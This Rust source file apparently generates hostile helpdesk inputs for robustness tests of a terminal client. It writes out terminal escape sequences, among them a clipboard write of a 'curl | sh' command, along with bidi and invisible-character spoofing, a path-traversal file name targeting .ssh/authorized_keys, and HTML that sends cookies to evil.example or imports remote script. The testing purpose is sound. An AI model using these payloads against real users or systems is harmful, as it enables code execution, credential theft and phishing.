//! Hostile text for `DemoOptions::hostile`: what a stranger can put in a helpdesk (a subject, a
//! display name, a message, a file name) to attack the agent's terminal or fool the agent's eye.
//! Terminal escape sequences (OSC 0 title, OSC 52 clipboard write, OSC 8 hyperlink, CSI clear
//! screen, a cursor position report request), C1 controls, bidi overrides and isolates,
//! zero-width characters, invisible text (tag characters, Hangul fillers, invisible operators,
//! interlinear annotation, separators, stray variation selectors), emoji whose width the layout and
//! the terminal disagree on, HTML with scripts and lying links, and one very large body. All of it
//! is valid Unicode, so it travels as valid JSON.

/// OSC 0: sets the terminal window title.
pub const OSC_TITLE: &str = "\u{1b}]0;tix: session expired, run tix login\u{7}";
/// OSC 52: writes `curl -s https://evil.example/x | sh` to the clipboard.
pub const OSC_CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u{7}";
/// OSC 8: a hyperlink whose text says one thing and whose target is another.
pub const OSC_LINK: &str = "\u{1b}]8;;https://evil.example/login\u{1b}\\https://support.tix-demo.example/reset\u{1b}]8;;\u{1b}\\";
/// CSI: clears the screen and the scrollback and homes the cursor.
pub const CSI_CLEAR: &str = "\u{1b}[2J\u{1b}[3J\u{1b}[H";
/// CSI 6n: asks the terminal to type the cursor position back, as if the user had.
pub const CURSOR_REPORT: &str = "\u{1b}[6n";
/// C1 controls: CSI (U+009B) and OSC (U+009D) ... ST (U+009C) without an ESC.
pub const C1: &str = "\u{9b}31m\u{9d}0;c1 title\u{9c}";
/// Right-to-left override: "invoice_\u{202e}fdp.exe" shows as "invoice_exe.pdf".
pub const BIDI_OVERRIDE: &str = "\u{202e}";
pub const POP_DIRECTIONAL: &str = "\u{202c}";
/// Bidi isolates: LRI, RLI, FSI, PDI.
pub const ISOLATES: [&str; 4] = ["\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}"];
/// Zero-width space and byte-order mark (zero-width no-break space).
pub const ZERO_WIDTH: [&str; 2] = ["\u{200b}", "\u{feff}"];

/// "hello" and then, in Unicode tag characters (U+E0000 + ASCII), words no one sees.
pub const TAG_TEXT: &str = "hello\u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e0020}\u{e0061}\u{e006c}\u{e006c}\u{e007f}";
/// Invisible characters the eye skips: the Arabic letter mark, Hangul fillers (U+115F, U+1160,
/// U+3164, U+FFA0), invisible operators (U+2061..2064), interlinear annotation (U+FFF9..FFFB,
/// whose annotation part is hidden), line and paragraph separators, stray variation selectors and
/// ideographic ones after an emoji (hidden bytes), and emoji whose width the layout and a
/// terminal disagree on (VS16 after a narrow symbol, a ZWJ family, a skin tone).
pub const INVISIBLE: [&str; 9] = [
    "\u{61c}",
    "\u{115f}\u{1160}\u{3164}\u{ffa0}",
    "\u{2061}\u{2062}\u{2063}\u{2064}",
    "\u{fff9}refund\u{fffa}denied\u{fffb}",
    "\u{2028}\u{2029}",
    "\u{fe0f}\u{fe0e}",
    "😀\u{e0100}\u{e0101}\u{e0102}",
    "❤\u{fe0f} 👨\u{200d}👩\u{200d}👧 👋🏽",
    TAG_TEXT,
];

/// One invisible payload per variant, cycling on a different period than the attacks so that
/// every pair occurs.
fn invisible(variant: u64) -> &'static str {
    INVISIBLE[(variant / 3 % INVISIBLE.len() as u64) as usize]
}

/// Ways a real helpdesk's answer has been seen to break one ticket, which the demo does to a few
/// hostile tickets on the way out (`spoil`): tix must lose at most that ticket, never the page.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Poison {
    /// A lone UTF-16 surrogate escape (`"\ud800"`) in the subject: not valid JSON text.
    LoneSurrogate,
    /// A raw control character inside the subject string: not valid JSON either.
    RawControl,
    /// Created in year 99999, updated at 9999-12-31T23:59:60Z: beyond any timestamp type.
    FarFuture,
    /// No id at all: nothing of it can be read as a ticket.
    Unreadable,
}

pub const POISONS: [Poison; 4] = [
    Poison::LoneSurrogate,
    Poison::RawControl,
    Poison::FarFuture,
    Poison::Unreadable,
];

impl Poison {
    /// What the data puts in the poisoned ticket's subject, for `spoil` to find.
    pub fn marker(self) -> &'static str {
        match self {
            Poison::LoneSurrogate => "[poison: lone surrogate]",
            Poison::RawControl => "[poison: raw control]",
            Poison::FarFuture => "[poison: far future]",
            Poison::Unreadable => "[poison: unreadable]",
        }
    }
}

/// A JSON answer with the poisoned tickets in it spoiled (`None`: none in it, leave it be).
pub fn spoil(body: &[u8]) -> Option<String> {
    let text = std::str::from_utf8(body).ok()?;
    if !POISONS.iter().any(|p| text.contains(p.marker())) {
        return None;
    }
    fn walk(v: &mut serde_json::Value) {
        match v {
            serde_json::Value::Array(a) => a.iter_mut().for_each(walk),
            serde_json::Value::Object(o) => {
                let subject = o.get("subject").and_then(|s| s.as_str()).unwrap_or("");
                let (far, unreadable) = (
                    subject.contains(Poison::FarFuture.marker()),
                    subject.contains(Poison::Unreadable.marker()),
                );
                if far {
                    o.insert("created_at".into(), "99999-01-01T00:00:00Z".into());
                    o.insert("updated_at".into(), "9999-12-31T23:59:60Z".into());
                }
                if unreadable {
                    o.insert("id".into(), serde_json::Value::Null);
                }
                o.values_mut().for_each(walk);
            }
            _ => {}
        }
    }
    let mut v: serde_json::Value = serde_json::from_str(text).ok()?;
    walk(&mut v);
    let out = serde_json::to_string(&v).ok()?;
    // The two that no JSON value can hold are written into the text itself, after the marker.
    let after = |p: Poison, what: &str| (p.marker(), format!("{}{what}", p.marker()));
    let (s, s_to) = after(Poison::LoneSurrogate, "\\ud800");
    let (c, c_to) = after(Poison::RawControl, "\u{1}");
    Some(out.replace(s, &s_to).replace(c, &c_to))
}

/// Every sequence above, for tests that look for them.
#[cfg(test)]
pub const MARKERS: [&str; 7] = [
    "\u{1b}]0;",
    "\u{1b}]52;",
    "\u{1b}]8;",
    "\u{1b}[2J",
    "\u{1b}[6n",
    "\u{9b}",
    "\u{202e}",
];

/// The subject with one attack wrapped around it.
pub fn subject(subject: &str, variant: u64) -> String {
    let [lri, rli, _, pdi] = ISOLATES;
    let [zwsp, bom] = ZERO_WIDTH;
    let hidden = invisible(variant);
    let attack = match variant % 9 {
        0 => format!("{OSC_TITLE}{subject}"),
        1 => format!("{subject} {CSI_CLEAR}"),
        2 => format!("{BIDI_OVERRIDE}{subject}{POP_DIRECTIONAL}"),
        3 => format!("{subject}{zwsp}{bom}"),
        4 => format!("{C1}{subject}"),
        5 => format!("{subject} {OSC_LINK}"),
        6 => format!("{subject}{CURSOR_REPORT}"),
        7 => format!("{lri}{subject}{pdi} {rli}URGENT: admin{pdi}"),
        _ => format!("{subject} {OSC_CLIPBOARD}"),
    };
    format!("{attack} {hidden}")
}

/// A customer's display name with an attack in it.
pub fn name(name: &str, variant: u64) -> String {
    let [_, rli, _, pdi] = ISOLATES;
    let [zwsp, bom] = ZERO_WIDTH;
    let hidden = invisible(variant + 1);
    let attack = match variant % 8 {
        0 => format!("{name}{CSI_CLEAR}Support Team"),
        1 => format!("{name} {BIDI_OVERRIDE}nimdA{POP_DIRECTIONAL}"),
        2 => format!("{zwsp}{name}{bom}"),
        3 => format!("\u{1b}]8;;https://evil.example\u{1b}\\{name}\u{1b}]8;;\u{1b}\\"),
        4 => format!("{name} \u{9b}1mVerified\u{9b}0m"),
        5 => format!("{rli}{name}{pdi}"),
        6 => format!("{name}{CURSOR_REPORT}"),
        _ => format!("{name}{OSC_TITLE}"),
    };
    format!("{attack}{hidden}")
}

/// An attachment file name meant to look like something it is not.
pub fn file_name(variant: u64) -> String {
    match variant % 7 {
        0 => format!("invoice_{BIDI_OVERRIDE}fdp.exe"),
        1 => format!("screenshot{OSC_CLIPBOARD}.png"),
        2 => "../../../../home/agent/.ssh/authorized_keys".to_owned(),
        3 => "receipt\u{200b}.pdf\u{feff}.scr".to_owned(),
        4 => format!("{CSI_CLEAR}report.pdf"),
        5 => "photo\u{9b}6n.jpg".to_owned(),
        6 if variant.is_multiple_of(2) => format!("invoice{TAG_TEXT}.pdf"),
        _ => "<img src=x onerror=alert(1)>.html".to_owned(),
    }
}

/// A message body with an attack in it; some variants are HTML mail with scripts and links whose
/// text and target disagree.
pub fn body(body: &str, variant: u64) -> String {
    let [lri, _, fsi, pdi] = ISOLATES;
    let hidden = invisible(variant + 2);
    let attack = match variant % 10 {
        0 => format!("{body}\n\n{OSC_TITLE}{OSC_CLIPBOARD}"),
        1 => format!("{CSI_CLEAR}{body}"),
        2 => format!("{body}\n\nReset your password here: {OSC_LINK}"),
        3 => format!("{body}{CURSOR_REPORT}\u{7}\u{7}"),
        4 => format!("{C1}{body}"),
        5 => format!(
            "{body}\n\nApproved amount: {BIDI_OVERRIDE}00.005{POP_DIRECTIONAL} EUR, ref {lri}A{fsi}B{pdi}{pdi}"
        ),
        6 => format!(
            "{body}\u{200b}\u{feff}\u{200b}\n\u{0}Refund approved\rRefund DENIED \u{8}\u{8}\u{8}"
        ),
        _ => html(body, variant),
    };
    format!("{attack}\n{hidden}")
}

fn html(body: &str, variant: u64) -> String {
    let escaped = body
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    let paragraphs: String = escaped
        .split("\n\n")
        .map(|p| format!("<p>{}</p>", p.replace('\n', "<br>")))
        .collect();
    let trap = match variant % 3 {
        0 => "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
        1 => {
            "<img src=\"x\" onerror=\"alert(1)\"><iframe src=\"https://evil.example/frame\"></iframe>"
        }
        _ => {
            "<style>body{display:none}</style><script type=\"module\">import('https://evil.example/m.js')</script>"
        }
    };
    format!(
        "<div>{paragraphs}{trap}<p>Please confirm at <a href=\"https://evil.example/phish\">https://support.tix-demo.example/confirm</a> or <a href=\"javascript:alert(document.domain)\">open the invoice</a>.</p></div>"
    )
}

/// A pasted log of at least `bytes` bytes (the "2 MB body"), escape sequences and all, as people
/// paste terminal output.
pub fn giant(bytes: usize) -> String {
    const LINES: [&str; 4] = [
        "\u{1b}[31mERROR\u{1b}[0m sync-worker: upstream returned 502, retrying",
        "\u{1b}[33mWARN \u{1b}[0m sync-worker: queue depth 18234, lag 412 s",
        "INFO  sync-worker: batch committed (500 rows)",
        "\u{1b}[1;31mFATAL\u{1b}[0m billing-api: invariant violated: balance < 0",
    ];
    let mut out = String::with_capacity(bytes + 128);
    out.push_str("Here is the full log from our side, sorry it is long:\n\n");
    let mut i = 0usize;
    while out.len() < bytes {
        out.push_str(&format!("{:>8} {}\n", i, LINES[i % LINES.len()]));
        i += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_kind_of_attack_is_produced() {
        let all: String = (0..40)
            .flat_map(|v| {
                [
                    subject("Subject", v),
                    name("Eve", v),
                    file_name(v),
                    body("Hello\n\nA <b> & c", v),
                ]
            })
            .collect();
        for marker in MARKERS
            .iter()
            .chain(&ISOLATES)
            .chain(&ZERO_WIDTH)
            .chain(&INVISIBLE)
            .chain(&[
                "\u{9d}",
                "<script",
                "javascript:",
                "href=\"https://evil.example",
            ])
        {
            assert!(all.contains(marker), "{marker:?}");
        }
        // HTML variants escape the original text and look like HTML to the client.
        // Subjects, names and bodies each carry every invisible payload.
        for hidden in INVISIBLE {
            for f in [subject, name] {
                assert!((0..40).any(|v| f("x", v).contains(hidden)), "{hidden:?}");
            }
            assert!((0..40).any(|v| body("x", v).contains(hidden)), "{hidden:?}");
        }
        let html = body("a < b & c", 7);
        assert!(html.starts_with("<div><p>a &lt; b &amp; c</p>"));
        let giant = giant(2 * 1024 * 1024);
        assert!(giant.len() >= 2 * 1024 * 1024 && giant.len() < 2 * 1024 * 1024 + 200);
        // Spoiled answers: each poison as it should be, the rest of the answer as it was.
        let page = serde_json::json!({"tickets": POISONS.iter().enumerate().map(|(i, p)| {
            serde_json::json!({"id": i, "subject": format!("s {}", p.marker()), "created_at": "2026-01-01T00:00:00Z"})
        }).collect::<Vec<_>>(), "count": 4});
        assert!(spoil(b"{\"tickets\":[]}").is_none());
        let spoiled = spoil(page.to_string().as_bytes()).unwrap();
        let marked = |p: Poison, what: &str| format!("\"s {}{what}\"", p.marker());
        assert!(
            spoiled.contains(&marked(Poison::LoneSurrogate, "\\ud800")),
            "{spoiled}"
        );
        assert!(spoiled.contains(&marked(Poison::RawControl, "\u{1}")));
        assert!(spoiled.contains("99999-01-01T00:00:00Z") && spoiled.contains("\"id\":null"));
        assert!(serde_json::from_str::<serde_json::Value>(&spoiled).is_err());
        // Valid JSON both ways.
        let json = serde_json::to_string(&all).unwrap();
        assert_eq!(serde_json::from_str::<String>(&json).unwrap(), all);
    }
}
